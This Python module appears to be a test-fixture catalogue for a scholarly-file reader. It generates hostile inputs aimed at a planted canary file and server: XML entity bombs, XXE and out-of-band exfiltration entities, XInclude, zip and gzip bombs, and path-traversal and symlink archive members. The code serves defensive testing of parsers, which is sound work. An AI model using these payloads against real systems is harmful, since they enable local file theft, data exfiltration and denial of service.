"""Named attacks on whoever reads files: each a function of a planted canary that gives bytes or a stream of them."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import BinaryIO, cast


@dataclass(frozen=True, slots=True)
class Canary:
    """What a reader must never open: the path of a file, the address of a server."""

    file: str
    http: str


Attack = Callable[[Canary], bytes | BinaryIO]
_JATS = "<article><front><article-meta><title-group><article-title>{}</article-title></title-group></article-meta></front></article>"


class Endless(io.RawIOBase):
    """A stream of ``size`` bytes: a head, then one piece over and over."""

    def __init__(self, head: bytes, piece: bytes, size: int) -> None:
        self.head = head
        self.piece = piece
        self.block = piece * (2 + 65536 // len(piece))
        self.place = 0
        self.size = size

    def readable(self) -> bool:
        """Say that it can be read."""
        return True

    def read(self, size: int = -1) -> bytes:
        """Return up to ``size`` bytes, never more than 64 KB of the repeated part."""
        size = min(size if size >= 0 else 65536, 65536, self.size - self.place)
        if self.place < len(self.head):
            data = self.head[self.place : self.place + size]
        else:
            start = (self.place - len(self.head)) % len(self.piece)
            data = self.block[start : start + size]
        self.place += len(data)
        return data


def _doctype(declared: str, body: str, root: str = "article") -> bytes:
    return f"<?xml version='1.0'?><!DOCTYPE {root} [{declared}]>{body}".encode()


def _laughs(_: Canary) -> bytes:
    levels = "".join(f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, 10))
    return _doctype(f'<!ENTITY l0 "ha">{levels}', _JATS.format("&l9;"))


def _quadratic(_: Canary) -> bytes:
    return _doctype('<!ENTITY a "' + "x" * 50_000 + '">', _JATS.format("&a;" * 50_000))


def _packed(head: bytes, piece: bytes, size: int) -> bytes:
    """Return gzip that unpacks to ``size`` bytes."""
    packed = io.BytesIO()
    block = piece * (2**20 // len(piece))
    with gzip.GzipFile(fileobj=packed, mode="wb", mtime=0) as out:
        out.write(head)
        for _ in range(size // len(block)):
            out.write(block)
    return packed.getvalue()


def _zip(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return packed.getvalue()


def _zip_bomb(_: Canary) -> bytes:
    return _zip(("a.xml", b"<PubmedArticleSet>" + b" " * 300_000_000))


def _zip_link(at: Canary) -> bytes:
    info = zipfile.ZipInfo("paper.xml")
    info.external_attr = 0o120777 << 16
    return _zip((info, at.file.encode()))


def _locked_zip(_: Canary) -> bytes:
    data = bytearray(_zip(("a.txt", b"words")))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        struct.pack_into("<H", data, data.index(mark) + offset, 1)
    return bytes(data)


def _tar(name: str, kind: bytes, link: str = "") -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.type = kind
        info.linkname = link
        archive.addfile(info, io.BytesIO(b""))
    return packed.getvalue()


def _nested(depth: int) -> bytes:
    data = b"Words."
    for _ in range(depth):
        data = gzip.compress(data, mtime=0)
    return data


def _attributes(count: int) -> bytes:
    attributes = " ".join(f'a{n}="1"' for n in range(count))
    return f"<article {attributes}/>".encode()


def _namespaces(count: int) -> bytes:
    spaces = " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(count))
    return f"<article {spaces}>{_JATS.format('Title')[9:]}".encode()


def _yaml_laughs(_: Canary) -> bytes:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    return ("---\n" + "\n".join(lines) + "\n---\n# Title\n\nWords.\n").encode()


def _spans(_: Canary) -> bytes:
    rows = "<tr>" + '<td rowspan="20000" colspan="1">x</td>' * 200 + "</tr>" + "<tr/>" * 20_000
    return f"<article><body><table-wrap><table>{rows}</table></table-wrap></body></article>".encode()


def _headings(_: Canary) -> bytes:
    head = "<tr>" + f"<th>{'x' * 20_000}</th>" * 150 + "</tr>"
    rows = ("<tr>" + "<td>1</td>" * 150 + "</tr>") * 200
    table = f"<table><thead>{head}</thead><tbody>{rows}</tbody></table>"
    return f"<article><body><table-wrap>{table}</table-wrap></body></article>".encode()


# Every one of these must end in a refusal.
REFUSED: dict[str, Attack] = {
    "billion laughs": _laughs,
    "quadratic blow-up": _quadratic,
    "entities in a circle": lambda _: _doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', _JATS.format("&a;")),
    "external entity, file": lambda at: _doctype(f'<!ENTITY e SYSTEM "file://{at.file}">', _JATS.format("&e;")),
    "external entity, http": lambda at: _doctype(f'<!ENTITY e SYSTEM "{at.http}/x">', _JATS.format("&e;")),
    "parameter entity": lambda at: _doctype(f'<!ENTITY % p SYSTEM "{at.http}/p">%p;', _JATS.format("x")),
    "parameter entity, file": lambda at: _doctype(f'<!ENTITY % p SYSTEM "file://{at.file}"> %p;', _JATS.format("x")),
    "out of band": lambda at: _doctype(
        f'<!ENTITY % f SYSTEM "file://{at.file}"><!ENTITY % o "<!ENTITY s SYSTEM \'{at.http}/?%f;\'>">%o;',
        _JATS.format("&s;"),
    ),
    "entity in an attribute": lambda _: _doctype('<!ENTITY a "x">', '<article id="&a;"/>'),
    "entity as a default": lambda _: _doctype('<!ENTITY a "x"><!ATTLIST article id CDATA "&a;">', _JATS.format("x")),
    "unparsed entity": lambda at: _doctype(
        f'<!NOTATION n SYSTEM "n"><!ENTITY u SYSTEM "file://{at.file}" NDATA n>', _JATS.format("x")
    ),
    "entity in UTF-16": lambda at: (
        _doctype(f'<!ENTITY e SYSTEM "file://{at.file}">', _JATS.format("&e;")).decode().encode("utf-16")
    ),
    "entity in UTF-16 without mark": lambda at: (
        _doctype(f'<!ENTITY e SYSTEM "file://{at.file}">', _JATS.format("&e;")).decode().encode("utf-16-le")
    ),
    "UTF-7": lambda _: b"<?xml version='1.0' encoding='UTF-7'?>" + _JATS.format("+ADw-b+AD4-").encode(),
    "UTF-32": lambda _: _JATS.format("x").encode("utf-32"),
    "EBCDIC": lambda _: ("<?xml version='1.0' encoding='IBM037'?>" + _JATS.format("x")).encode("cp037"),
    "declaration after a long comment": lambda at: b"<!--" + b"x" * 70_000 + b"-->" + _laughs(at)[21:],
    "doctype without end": lambda _: b"<!DOCTYPE article [ <!-- " + b"<x>" * 1000,
    "XInclude": lambda at: (
        f'<article xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="file://{at.file}"/></article>'.encode()
    ),
    "XInclude as text": lambda at: (
        f'<article xmlns:i="http://www.w3.org/2001/XInclude"><i:include parse="text" href="{at.http}"/></article>'.encode()
    ),
    "entity nobody declared": lambda _: _JATS.format("&secret;").encode(),
    "undeclared behind a doctype": lambda at: (
        f'<!DOCTYPE article SYSTEM "{at.http}/d.dtd">' + _JATS.format("&secret;")
    ).encode(),
    "100,000 attributes": lambda _: _attributes(100_000),
    "50,000 namespaces": lambda _: _namespaces(50_000),
    "the same attribute twice": lambda _: b'<article id="a" id="b"/>',
    "NUL": lambda _: b"<article>\x00</article>",
    "forbidden character": lambda _: b"<article>&#1;</article>",
    "surrogate reference": lambda _: b"<article>&#xD800;</article>",
    "bad UTF-8": lambda _: b"<article>\xff\xfe\xc3(</article>",
    "truncated": lambda _: _JATS.format("x").encode()[:-20],
    "unclosed CDATA": lambda _: b"<article><![CDATA[" + b"x" * 1000,
    "100,000 deep": lambda _: b"<article>" + b"<sec>" * 100_000 + b"</sec>" * 100_000 + b"</article>",
    "11 MB attribute": lambda _: b'<article id="' + b"x" * 11_000_000 + b'"/>',
    "500 MB article": lambda _: cast("BinaryIO", Endless(b"<article><body><p>", b"x", 500_000_000)),
    "500 MB of tags": lambda _: cast("BinaryIO", Endless(b"<PubmedArticleSet>", b"<a/>", 500_000_000)),
    "500 MB record": lambda _: cast(
        "BinaryIO", Endless(b"<PubmedArticleSet><PubmedArticle>", b"<i>x</i>", 500_000_000)
    ),
    "500 MB line": lambda _: cast("BinaryIO", Endless(b"PMID- 1\nTI  - ", b"x", 500_000_000)),
    "500 MB text": lambda _: cast("BinaryIO", Endless(b"Words ", b"words ", 500_000_000)),
    "gzip bomb": lambda _: _packed(b"<PubmedArticleSet>", b" ", 2**30),
    "gzip bomb of records": lambda _: _packed(b"<PubmedArticleSet>", b"<PubmedArticle/>", 2**28),
    "gzip bomb of words": lambda _: _packed(b"PMID- 1\nTI  - Title\n", b"AB  - words words words\n", 2**28),
    "zip bomb": _zip_bomb,
    "five archives deep": lambda _: _nested(5),
    "zip member that climbs": lambda _: _zip(("../../evil.txt", b"words")),
    "zip member at the root": lambda at: _zip((f"/{at.file}", b"words")),
    "zip member on a drive": lambda _: _zip(("C:\\evil.txt", b"words")),
    "zip link": _zip_link,
    "zip with a password": _locked_zip,
    "tar link": lambda at: _tar("paper.xml", tarfile.SYMTYPE, at.file),
    "tar hard link": lambda at: _tar("paper.xml", tarfile.LNKTYPE, at.file),
    "tar device": lambda _: _tar("paper.xml", tarfile.CHRTYPE),
    "tar member that climbs": lambda _: _tar("../evil.xml", tarfile.REGTYPE),
    "broken gzip": lambda _: gzip.compress(b"words " * 1000)[:30],
    "YAML laughs": _yaml_laughs,
    "JSON 100,000 deep": lambda _: b"[" * 100_000,
    "JSON endless number": lambda _: b'{"type": "a", "title": ' + b"9" * 100_000 + b"}",
    "CSV field without end": lambda _: b'OriginalPaperDOI,RetractionNature\n"' + b"x" * 1_000_000,
    "broken PDF": lambda _: b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\ntrailer << /Root 1 0 R >>",
    "empty": lambda _: b"",
    "picture": lambda _: b"\x89PNG\r\n\x1a\n" + b"\x00" * 100,
}

# These may be read, but within the same limits, and nothing outside may be opened.
HARMLESS: dict[str, Attack] = {
    "DTD on the web": lambda at: (
        f'<!DOCTYPE article PUBLIC "-//X//EN" "{at.http}/d.dtd">' + _JATS.format("Title")
    ).encode(),
    "DTD in a file": lambda at: (f'<!DOCTYPE article SYSTEM "file://{at.file}">' + _JATS.format("Title")).encode(),
    "style sheet": lambda at: (
        f'<?xml-stylesheet href="{at.http}/s.xsl" type="text/xsl"?>' + _JATS.format("Title")
    ).encode(),
    "schema": lambda at: (
        f'<article xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:noNamespaceSchemaLocation="{at.http}/s.xsd">'
        + _JATS.format("Title")[9:]
    ).encode(),
    "HTML that loads": lambda at: (
        f'<!doctype html><link href="{at.http}/c.css"><img src="{at.http}/i"><script src="{at.http}/j"></script><iframe src="file://{at.file}">'
        f'</iframe><p>Words.</p><object data="{at.http}/o"></object>'
    ).encode(),
    "Markdown that loads": lambda at: f"# Title\n\n![picture]({at.http}/i) and [link](file://{at.file})\n".encode(),
    "cells that multiply": _spans,
    "headings that multiply": _headings,
    "JSON twice the key": lambda _: json.dumps([{"type": "a", "title": "Title"}] * 1000).encode(),
}


def all_of() -> Iterator[tuple[str, Attack, bool]]:
    """Yield (name, attack, whether it must be refused)."""
    yield from ((name, attack, True) for name, attack in REFUSED.items())
    yield from ((name, attack, False) for name, attack in HARMLESS.items())
